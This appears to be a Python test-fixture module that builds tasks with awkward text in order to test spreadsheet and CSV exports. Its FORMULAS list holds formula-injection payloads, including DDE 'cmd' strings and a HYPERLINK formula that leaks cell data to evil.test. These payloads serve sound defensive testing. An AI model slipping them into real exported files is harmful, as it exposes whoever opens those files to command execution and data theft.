"""Texts that have broken exports before, and tasks that have them."""

from datetime import UTC, date, datetime

from exports import writers
from exports.columns import COLUMNS, DEFAULT_COLUMNS
from orgs.models import Task

FORMULAS = [
    "=1+2",
    "=cmd|' /C calc'!A0",
    '=1+2";=1+2',
    "=1+2'\" ;,=1+2",
    '=HYPERLINK("https://evil.test?leak="&A1,"Click")',
    "+1+2",
    "-1+2",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    "\n=1+2",
    "＝1+2",
    "＋1+2",
    "－1+2",
    "＠SUM(1)",
    "=",
    "-",
]

TEXTS = [
    "Plain",
    "",
    " spaces around ",
    "comma, semicolon; tab\tend",
    'quotes " and ""',
    "'apostrophe",
    "'=1+2",
    "'''@SUM(1)",
    "'",
    "''",
    "two\nlines",
    "carriage\rreturn",
    "Windows\r\nlines",
    "backslash \\ \\n",
    "100 % %s %d %% {0}",
    "NULL",
    "007",
    "1e5",
    "Grüße, Ελληνικά, 中文, עברית, العربية",
    "\u202eright to left",
    "🎉 👩‍👩‍👧 𝔘𝔫𝔦𝔠𝔬𝔡𝔢",
    "\ufeffbyte order mark",
    "\u2028 and \u2029",
    "\x01\x08\x0b\x0c\x1f\x7f\x80\x9f",
    "\ufffe and \uffff",
    "<b>&amp;</b> ]]>",
    "_x0041_ _x000D_ _x005F_x0041_ _x0041_x0042_ _x004_ _X0041_",
    "long " * 2000,
    *FORMULAS,
]

CREATED = datetime(2026, 2, 28, 23, 59, 59, 123456, tzinfo=UTC)


def make_nasty_tasks(organization, person, texts=TEXTS):
    """A task for each text, which is its title (cut) and its description. Returns them in the order of the list."""
    organization.tasks.bulk_create(
        Task(
            organization=organization,
            title=text[:200],
            description=text,
            assigned_to=person if number % 2 else None,
            created_by=person,
            due_date=[None, date(2026, 3, 1), date(1899, 1, 1)][number % 3],
            completed_at=CREATED if number % 2 else None,
        )
        for number, text in enumerate(texts)
    )
    # The fraction is left out where it is 0: both forms are read.
    organization.tasks.update(created_at=CREATED, updated_at=CREATED.replace(microsecond=0))
    return in_order(organization)


def in_order(organization):
    return organization.tasks.order_by(*Task.ORDERS["newest"])


def write(path, tasks, export_format, columns=DEFAULT_COLUMNS, **options):
    """Write the file; returns what `exports.writers.write` does."""
    with path.open("wb") as file:
        return writers.write(file, tasks, [COLUMNS[name] for name in columns], export_format, **options)
